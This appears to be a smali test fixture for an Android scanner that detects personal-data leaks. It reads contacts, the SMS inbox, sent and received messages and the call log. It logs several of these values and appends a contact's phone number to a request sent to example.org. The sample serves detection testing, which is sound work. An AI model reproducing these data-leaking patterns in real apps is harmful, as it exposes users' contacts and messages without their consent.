.class public Lorg/apkscan/test/pd/Main;
.super Landroid/app/Activity;

# A contact's phone number read from the contacts provider goes into a
# request's address, a text message read from the SMS provider and one
# received are logged; a row of the media provider is not personal.

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method private first(Landroid/net/Uri;)Ljava/lang/String;
    .registers 8
    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const/4 v2, 0x0
    move-object v1, p1
    move-object v3, v2
    move-object v4, v2
    move-object v5, v2
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    const/4 v1, 0x0
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 9
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    sget-object v1, Landroid/provider/ContactsContract$CommonDataKinds$Phone;->CONTENT_URI:Landroid/net/Uri;
    const/4 v2, 0x0
    move-object v3, v2
    move-object v4, v2
    move-object v5, v2
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    const/4 v1, 0x0
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    new-instance v1, Ljava/lang/StringBuilder;
    const-string v2, "https://example.org/c?n="
    invoke-direct {v1, v2}, Ljava/lang/StringBuilder;-><init>(Ljava/lang/String;)V
    invoke-virtual {v1, v0}, Ljava/lang/StringBuilder;->append(Ljava/lang/String;)Ljava/lang/StringBuilder;
    move-result-object v1
    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
    move-result-object v1
    new-instance v2, Ljava/net/URL;
    invoke-direct {v2, v1}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    return-void
.end method

# The text messages, by a parsed URI with a path.
.method protected onResume()V
    .registers 8
    invoke-super {p0}, Landroid/app/Activity;->onResume()V
    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const-string v1, "content://sms/inbox"
    invoke-static {v1}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v1
    const/4 v2, 0x0
    move-object v3, v2
    move-object v4, v2
    move-object v5, v2
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    const-string v1, "body"
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getColumnIndex(Ljava/lang/String;)I
    move-result v1
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    const-string v1, "sms"
    invoke-static {v1, v0}, Landroid/util/Log;->i(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

# Pictures are not personal data here (read through a helper, which
# takes the URI as a parameter: its callers pass no personal URI).
.method protected onStart()V
    .registers 4
    invoke-super {p0}, Landroid/app/Activity;->onStart()V
    const-string v0, "content://media/external/images/media"
    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v0
    invoke-direct {p0, v0}, Lorg/apkscan/test/pd/Main;->first(Landroid/net/Uri;)Ljava/lang/String;
    move-result-object v0
    const-string v1, "media"
    invoke-static {v1, v0}, Landroid/util/Log;->w(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

# A contact's email through a helper given the provider's URI, and a
# sent message through another given a parsed URI with an id appended:
# the URIs are known where the helpers are called.
.method protected onStop()V
    .registers 5
    invoke-super {p0}, Landroid/app/Activity;->onStop()V
    sget-object v0, Landroid/provider/ContactsContract$CommonDataKinds$Email;->CONTENT_URI:Landroid/net/Uri;
    invoke-direct {p0, v0}, Lorg/apkscan/test/pd/Main;->email(Landroid/net/Uri;)Ljava/lang/String;
    move-result-object v0
    const-string v1, "email"
    invoke-static {v1, v0}, Landroid/util/Log;->d(Ljava/lang/String;Ljava/lang/String;)I
    const-string v0, "content://sms/sent"
    invoke-static {v0}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v0
    const-wide/16 v2, 0x1
    invoke-static {v0, v2, v3}, Landroid/content/ContentUris;->withAppendedId(Landroid/net/Uri;J)Landroid/net/Uri;
    move-result-object v0
    invoke-static {p0, v0}, Lorg/apkscan/test/pd/Main;->sent(Landroid/content/Context;Landroid/net/Uri;)Ljava/lang/String;
    move-result-object v0
    invoke-static {v1, v0}, Landroid/util/Log;->v(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method private email(Landroid/net/Uri;)Ljava/lang/String;
    .registers 8
    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const/4 v2, 0x0
    move-object v1, p1
    move-object v3, v2
    move-object v4, v2
    move-object v5, v2
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    const/4 v1, 0x0
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

.method static sent(Landroid/content/Context;Landroid/net/Uri;)Ljava/lang/String;
    .registers 8
    invoke-virtual {p0}, Landroid/content/Context;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v0
    const/4 v2, 0x0
    move-object v1, p1
    move-object v3, v2
    move-object v4, v2
    move-object v5, v2
    invoke-virtual/range {v0 .. v5}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v0
    invoke-interface {v0}, Landroid/database/Cursor;->moveToFirst()Z
    const/4 v1, 0x0
    invoke-interface {v0, v1}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v0
    return-object v0
.end method

# The call log through an AsyncQueryHandler (Q), whose onQueryComplete
# gets the cursor; pictures through another (R); postal addresses through
# a CursorLoader (L).
.method protected onRestart()V
    .registers 10
    invoke-super {p0}, Landroid/app/Activity;->onRestart()V
    new-instance v0, Lorg/apkscan/test/pd/Q;
    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v1
    invoke-direct {v0, v1}, Lorg/apkscan/test/pd/Q;-><init>(Landroid/content/ContentResolver;)V
    const/4 v1, 0x1
    const/4 v2, 0x0
    sget-object v3, Landroid/provider/CallLog$Calls;->CONTENT_URI:Landroid/net/Uri;
    move-object v4, v2
    move-object v5, v2
    move-object v6, v2
    move-object v7, v2
    invoke-virtual/range {v0 .. v7}, Lorg/apkscan/test/pd/Q;->startQuery(ILjava/lang/Object;Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)V
    new-instance v0, Lorg/apkscan/test/pd/R;
    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v1
    invoke-direct {v0, v1}, Lorg/apkscan/test/pd/R;-><init>(Landroid/content/ContentResolver;)V
    const/4 v1, 0x2
    const-string v3, "content://media/external/images/media"
    invoke-static {v3}, Landroid/net/Uri;->parse(Ljava/lang/String;)Landroid/net/Uri;
    move-result-object v3
    invoke-virtual/range {v0 .. v7}, Lorg/apkscan/test/pd/R;->startQuery(ILjava/lang/Object;Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)V
    invoke-virtual {p0}, Lorg/apkscan/test/pd/Main;->getLoaderManager()Landroid/app/LoaderManager;
    move-result-object v0
    const/4 v1, 0x0
    const/4 v2, 0x0
    new-instance v3, Lorg/apkscan/test/pd/L;
    invoke-direct {v3, p0}, Lorg/apkscan/test/pd/L;-><init>(Landroid/content/Context;)V
    invoke-virtual {v0, v1, v2, v3}, Landroid/app/LoaderManager;->initLoader(ILandroid/os/Bundle;Landroid/app/LoaderManager$LoaderCallbacks;)Landroid/content/Loader;
    return-void
.end method

.method public received([B)V
    .registers 4
    invoke-static {p1}, Landroid/telephony/SmsMessage;->createFromPdu([B)Landroid/telephony/SmsMessage;
    move-result-object v0
    invoke-virtual {v0}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v0
    const-string v1, "received"
    invoke-static {v1, v0}, Landroid/util/Log;->e(Ljava/lang/String;Ljava/lang/String;)I
    return-void
.end method

.method protected onPause()V
    .registers 3
    invoke-super {p0}, Landroid/app/Activity;->onPause()V
    const/4 v0, 0x0
    new-array v0, v0, [B
    invoke-virtual {p0, v0}, Lorg/apkscan/test/pd/Main;->received([B)V
    return-void
.end method
